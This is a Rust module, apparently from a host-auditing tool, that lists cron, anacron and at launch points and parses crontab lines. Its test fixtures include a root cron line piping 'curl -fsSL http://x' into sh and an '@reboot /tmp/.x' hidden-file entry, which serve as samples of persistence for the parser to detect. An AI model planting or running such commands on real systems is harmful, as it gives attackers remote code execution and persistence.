//! cron and at: `crontab(5)` lines and job scripts.
//!
//! The crontab format is simple enough that a crate would add nothing: five time fields (or an
//! `@reboot`-style nickname), a user for system crontabs, then the command. Assignments
//! (`MAILTO=…`) are skipped.

use super::{LaunchPoint, logical_lines};
use crate::context::Ctx;

pub(super) fn read(ctx: &mut Ctx, out: &mut Vec<LaunchPoint>) {
    let mut system_tabs = vec![b"/etc/crontab".to_vec()];
    system_tabs.extend(ctx.files_in(b"/etc/cron.d"));
    for path in system_tabs {
        crontab(ctx, &path, true, None, out);
    }
    for dir in [&b"/var/spool/cron/crontabs"[..], b"/var/spool/cron"] {
        for path in ctx.files_in(dir) {
            let user = path.rsplit(|&b| b == b'/').next().map(<[u8]>::to_vec);
            crontab(ctx, &path, false, user, out);
        }
    }
    for period in ["hourly", "daily", "weekly", "monthly"] {
        let dir = format!("/etc/cron.{period}");
        for path in ctx.files_in(dir.as_bytes()) {
            if path.ends_with(b"/.placeholder") {
                continue;
            }
            script(ctx, &path, "cron", &format!("cron.{period}"), out);
        }
    }
    if let Some(c) = ctx.read(b"/etc/anacrontab") {
        let owner = ctx.owner(b"/etc/anacrontab");
        for (n, line) in logical_lines(&c.bytes) {
            if is_assignment(&line) {
                continue;
            }
            let fields: Vec<&[u8]> = line.splitn(4, |b| b.is_ascii_whitespace()).collect();
            if let [period, _delay, _id, cmd] = fields.as_slice() {
                out.push(LaunchPoint {
                    kind: "cron",
                    path: b"/etc/anacrontab".to_vec(),
                    line: Some(n),
                    command: cmd.trim_ascii().to_vec(),
                    run_as: Some(b"root".to_vec()),
                    trigger: format!("anacron every {}", String::from_utf8_lossy(period)),
                    owner: owner.clone(),
                    evidence: line.clone(),
                });
            }
        }
    }
    for dir in [&b"/var/spool/cron/atjobs"[..], b"/var/spool/at"] {
        for path in ctx.files_in(dir) {
            let name = path.rsplit(|&b| b == b'/').next().unwrap_or_default();
            if name.starts_with(b".") || name == b"spool" {
                continue;
            }
            script(ctx, &path, "at", "at job", out);
        }
    }
}

/// A script run as a whole (cron.daily, at jobs): the command is its text.
pub(super) fn script(
    ctx: &mut Ctx,
    path: &[u8],
    kind: &'static str,
    trigger: &str,
    out: &mut Vec<LaunchPoint>,
) {
    let Some(c) = ctx.read(path) else { return };
    let body: Vec<u8> = logical_lines(&c.bytes)
        .into_iter()
        .map(|(_, l)| l)
        .collect::<Vec<_>>()
        .join(&b'\n');
    out.push(LaunchPoint {
        kind,
        path: path.to_vec(),
        line: None,
        command: body.clone(),
        run_as: Some(b"root".to_vec()),
        trigger: trigger.to_owned(),
        owner: ctx.owner(path),
        evidence: body.into_iter().take(2048).collect(),
    });
}

fn is_assignment(line: &[u8]) -> bool {
    let first = line.split(|b| b.is_ascii_whitespace()).next().unwrap_or_default();
    first.contains(&b'=') && !first.starts_with(b"@") && !first.starts_with(b"*")
}

/// Splits a crontab line into (schedule, user, command).
pub fn parse_cron_line(line: &[u8], system: bool) -> Option<(String, Option<Vec<u8>>, Vec<u8>)> {
    let mut rest = line.trim_ascii();
    let mut take = || -> Option<Vec<u8>> {
        if rest.is_empty() {
            return None;
        }
        let end = rest
            .iter()
            .position(|b| b.is_ascii_whitespace())
            .unwrap_or(rest.len());
        let (w, tail) = rest.split_at(end);
        rest = tail.trim_ascii_start();
        Some(w.to_vec())
    };
    let first = take()?;
    let schedule = if first.starts_with(b"@") {
        String::from_utf8_lossy(&first).into_owned()
    } else {
        let mut fields = vec![first];
        for _ in 0..4 {
            fields.push(take()?);
        }
        fields
            .iter()
            .map(|f| String::from_utf8_lossy(f).into_owned())
            .collect::<Vec<_>>()
            .join(" ")
    };
    let user = if system { Some(take()?) } else { None };
    if rest.is_empty() {
        return None;
    }
    Some((schedule, user, rest.to_vec()))
}

fn crontab(ctx: &mut Ctx, path: &[u8], system: bool, user: Option<Vec<u8>>, out: &mut Vec<LaunchPoint>) {
    let Some(c) = ctx.read(path) else { return };
    let owner = ctx.owner(path);
    for (n, line) in logical_lines(&c.bytes) {
        if is_assignment(&line) {
            continue;
        }
        match parse_cron_line(&line, system) {
            Some((schedule, run_as, command)) => out.push(LaunchPoint {
                kind: "cron",
                path: path.to_vec(),
                line: Some(n),
                command,
                run_as: run_as.or_else(|| user.clone()),
                trigger: schedule,
                owner: owner.clone(),
                evidence: line,
            }),
            None => ctx.note(path, &format!("line {n} is not a valid crontab line; skipped")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_system_user_and_nickname_lines() {
        let (s, u, c) = parse_cron_line(b"*/5 * * * * root curl -fsSL http://x | sh", true).unwrap();
        assert_eq!(
            (s.as_str(), u.unwrap(), c),
            (
                "*/5 * * * *",
                b"root".to_vec(),
                b"curl -fsSL http://x | sh".to_vec()
            )
        );
        let (s, u, c) = parse_cron_line(b"@reboot /tmp/.x", false).unwrap();
        assert_eq!((s.as_str(), u, c), ("@reboot", None, b"/tmp/.x".to_vec()));
        assert!(parse_cron_line(b"* * *", true).is_none());
        assert!(parse_cron_line(b"* * * * * root", true).is_none());
    }

    proptest::proptest! {
        #[test]
        fn never_panics(line in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300), system: bool) {
            let _ = parse_cron_line(&line, system);
            let _ = super::super::logical_lines(&line);
        }
    }
}
